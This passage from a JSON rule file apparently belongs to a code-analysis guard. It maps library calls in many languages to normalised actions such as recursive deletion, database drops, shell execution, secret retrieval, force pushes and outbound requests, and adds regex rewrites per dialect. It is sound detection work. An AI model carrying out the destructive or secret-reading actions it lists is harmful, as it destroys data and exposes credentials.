-":[["^(?:Kernel|Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input\
-","Rails.application":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop\
-_all":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"ru\
-n sql drop-database db","rails_application.credentials":"secret","send":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"gl\
-obs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel"\
-,"Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Seque\
-l.jdbc":"made sequel","IO.popen":"calls-back command $all","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"ca\
-lls-back command $all","system":"command $all","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Op\
-en3.capture3":"command $all","PTY.spawn":"command $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege\
-":"run setuid $0","Process.UID.grant_privilege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLE\
-VEL_BINDING.eval":"eval $0","binding.eval":"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made s\
-idekiq","Sidekiq.DeadSet.new":"made sidekiq","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-\
-volume","Sequel.mock":"made mock","MockRedis.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","Obje\
-ctSpace.each_object":"entries model","Mongo.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.clien\
-t":"made mongo","Mongoid.Clients.with_name":"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","M\
-ongoid.Config.purge!":"run sql drop-database mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"c\
-alls-back open $0 $1","File.open":"calls-back open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTPar\
-ty.get":"request GET $0","Faraday.get":"request GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get\
-":"request GET $0","Net.HTTP.post":"request POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"req\
-uest POST $0 $1 $:body $:json $:form","Faraday.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP\
-.post":"request POST $0 $1 $:body $:json $:form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form\
-","HTTParty.delete":"request DELETE $0","Faraday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.de\
-lete":"request DELETE $0","Typhoeus.delete":"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","\
-URI":"value $0","URI.parse":"value $0","File.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","\
-File.readlines":"read $0","File.foreach":"read $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.saf\
-e_load_file":"read $0","YAML.unsafe_load_file":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CS\
-V.table":"read $0","Dotenv.parse":"read $0","IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"\
-write $0 $1","File.delete":"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","D\
-ir.delete":"run rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","F\
-ileUtils.rmtree":"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -\
-rf $all","FileUtils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s\
- $0 $1","File.symlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File\
-.chmod":"chmod $1.. $0","File.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"\
-value ~","Dir.pwd":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $\
-0","Dir.children":"names $0","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid"\
-:"value","fork":"if-sign:repeats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"write":"send $self $0","puts":"send $self\
- $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0\
-","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 \
-$1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-name calls-back made rows","update_all":"if-name run sql upd\
-ate-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-sign:unconditional if-made:rows if-none run sql de\
-lete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run docker volume rm $self","open":"\
-if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql delete-all rows | if-name if-ke\
-pt run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run \
-sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql flush FLUSHDB | if-database\
- if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","tru\
-ncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"value $self","compact":"value $\
-self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made:sidekiq run celery purge","\
-database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-made:ssh shell $0","eval":"i\
-f-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content eval $0 | if-arg:text eval \
-$0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-says:^hard$ if-args:2 run git r\
-eset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entries keys","rmtree":"if-text ru\
-n rm -rf $self","children":"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | if-list any-of $self","readl\
-ine":"if-made:peer received | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv":"if-made:peer received | i\
-f-made:connection received","recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer received | if-made:connection re\
-ceived","read":"if-made:peer received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer","shift":"if-list any-of $s\
-elf","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self","values":"if-map values $sel\
-f","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"no\
-ne","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"fun\
-ction_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts":{"os.pwd":".","os.home":"~\
-","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDirector\
-y":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"aliases":{},"rewrites":[["^\
-(?:(?:System\\\\.IO|std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":\
-"print","console.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"char\
-acters $all","table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all",\
-"list":"value $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all",\
-"Arrays.asList":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List\
-.toList":"value $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_exi\
-sting_atom":"value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0\
-","File.toPath":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0",\
-"URI.create":"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"v\
-alue $0","opendir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","Strin\
-g.valueOf":"value $0","Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths\
-.get":"join $all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all"\
-,"file.path":"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","jo\
-in_path":"join $all","path_join":"join $all","Path.Join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"\
-value ~","UserHomeDir":"value ~","homedir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileM\
-anager.default.homeDirectoryForCurrentUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd\
-":"value .","getCurrentDir":"value .","env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"e\
-nvironment $0","System.getProperty":"environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment\
- $0","System.get_env":"environment $0","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTe\
-mp":"value /tmp/\\ufffc","tempfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mkt\
-emp":"value /tmp/\\ufffc","tempname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","Te\
-mpDir.new":"value /tmp/\\ufffc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\uf\
-ffc","createTempDir":"value /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc\
-","File.createTempDir":"value /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc"\
-,"Directory.systemTemp.createTempSync":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufff\
-c","Path.GetTempPath":"value /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam"\
-:"value /tmp/\\ufffc","Briefly.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remov\
-e":"run rm $0","os.Remove":"run rm $0","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":\
-"run rm $0","os.remove":"run rm $0","os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm\
- $0","vim.uv.fs_unlink":"run rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"\
-run rm $0","delete-file":"run rm $0","delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.re\
-move_dir_all":"run rm -rf $0","Files.remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuiet\
-ly":"run rm -rf $0","FileUtils.forceDelete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf\
- $0","Directory.Delete":"run rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run\
- rm -rf $0","removePathForcibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":\
-"run rm -rf $0","delete_directory_tree":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $\
-0","deltree":"run rm -rf $0","gen_tcp.recv":"received","require":"module $0","SqlCommand":"sql $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteComma\
-nd":"sql $0","OracleCommand":"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0","setuid":"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run se\
-tuid $0","unix.Setuid":"run setuid $0","setreuid":"run setuid $last","setresuid":"run setuid $last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove\
-_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute\
-":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd\
-":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell $0","shell_command_to_string":"shell $0","async_she\
-ll_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0","run":"shell $0","callCommand":"shell $0","success"\
-:"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"program $all","exec.Command":"program $all","exec.CommandContext":"program $al\
-l","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1"\
-,"Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execu\
-te $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"writ\
-e $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spi\
-t":"write $0 $1","File.WriteAllText":"write $0 $1","File.WriteAllLines":"write $0 $1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.ov\
-er":"write $0 $1","File.AppendAllText":"write $0 $1 append","File.AppendAllLines":"write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open"\
-:"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w"\
-,"File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"ru\
-n truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString"\
-:"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":\
-"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0","File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":\
-"read $0","File.OpenText":"read $0","File.OpenRead":"read $0","StreamReader":"read $0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0\
-","readRDS":"read $0","read_yaml":"read $0","read_json":"read $0","fromJSON":"read $0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0",\
-"TOML.parsefile":"read $0","YAML.load_file":"read $0","JSON.parsefile":"read $0","readdlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $\
-0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","io\
-util.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_files":"folder $0","list.files":"folder \
-$0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0","directory_iterator":"folder $0","dire\
-ctory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"folder $0 below","recursive_directory_itera\
-tor":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nft\
-w":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","\
-Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirn\
-ame $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","s\
-trings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split":"split $0","shlex.split":"split $0","l\
-apply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","\
-lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","\
-lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $\
-0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0\
- | sql $1","LibPQ.execute":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $\
-0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mnesia.delete_table":"run sql drop-table r\
-ows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"eval $2","socket.http.request":"request \
-GET $0","ssl.https.request":"request GET $0","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0",\
-"httpc_get":"request GET $0","http.get":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1\
- $:body","httr.POST":"request POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $\
-0 $1 $:body","httpc_post":"request POST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made reque\
-st $0","Request.post":"made request $0","jenkinsItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $s\
-elf","run":"value $self","onEnter":"value $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"valu\
-e $self","iter":"value $self","into_iter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self\
-","expect":"value $self","ok":"value $self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $se\
-lf","to_string":"value $self","toString":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"val\
-ue $self","filter_map":"value $self","filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"v\
-alue $self","toAbsolutePath":"value $self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray\
-":"value $self","max_depth":"value $self","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"v\
-alue $self","to_owned":"value $self","into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenk\
-ins run cloud-sdk delete | if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text r\
-un rm -r $self","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","\
-drop_database":"run sql drop-database db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","sta\
-tus":"if-list shell $self","output":"if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-l\
-ist shell $self","CombinedOutput":"if-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self\
-","arg":"concatenate $self $all","args":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -r\
-f $self","deleteRecursively":"run rm -rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $se\
-lf","doDelete":"if-made:jenkins run cloud-sdk delete","getPlainText":"run Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","Re\
-adString":"if-sign:network received","ReadBytes":"if-sign:network received","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLin\
-eAsync":"if-sign:network received","FormValue":"if-sign:network received","PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Pus\
-h":"if-option:Force=true run git push --force","PushContext":"if-option:Force=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":\
-"run docker volume rm $1","VolumesPrune":"run docker volume prune -af","SystemPrune":"run docker system prune -af","deleteSync":"if-text if-option:recursive=tru\
-e run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPath\
-Component":"join $self $0","appending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"f\
-older $self","listSync":"folder $self","children":"folder $self","read_dir":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkB\
-ottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $\
-self $0","writeAsString":"write $self $0","writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $sel\
-f $0 append","printWriter":"open $self w","bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsS\
-tring":"read $self","readAsStringSync":"read $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":\
-"send $self $0","body":"send $self $0","puts":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","u\
-ri":"made request $0","url":"made request $0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1\
-","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sq\
-l $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","Execu\
-teNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_q\
-uery":"sql $0 | sql $1"}}},"dialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\\
-[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\\
-.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],[\
-"\\\\b(os\\\\.(?:execute|remove|getenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s\
-+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\
-\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|\
-do|repeat)\\\\b","{"],["\\\\belseif\\\\b","} else if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\\
-[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],\
-["\\\\b(?:base|fs|httr2?|DBI|utils|tools|purrr|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exist\
